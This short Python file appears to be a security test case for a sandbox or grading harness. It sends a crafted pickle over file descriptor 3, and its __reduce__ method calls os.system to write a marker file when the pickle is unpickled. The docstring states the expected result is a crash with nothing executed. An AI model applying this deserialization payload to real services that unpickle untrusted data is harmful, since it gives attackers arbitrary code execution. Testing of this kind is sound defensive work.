"""Sends a pickle that writes a file where it is read.

must hold: the exchange ends as a crash of the learner's; nothing of it is run, kept or waited for
stopped by: wire
control: naive, files left
"""

import json
import os
import pickle
import struct
from pathlib import Path

TARGET = json.loads(Path("target.json").read_text())


class Written:
    def __reduce__(self):
        return os.system, ("echo hello > " + TARGET["marker"] + "/pickled",)


def total(x):
    header = pickle.dumps(Written())
    os.set_blocking(3, True)
    os.write(3, struct.pack("!IQ", len(header), 0) + header)
    return x
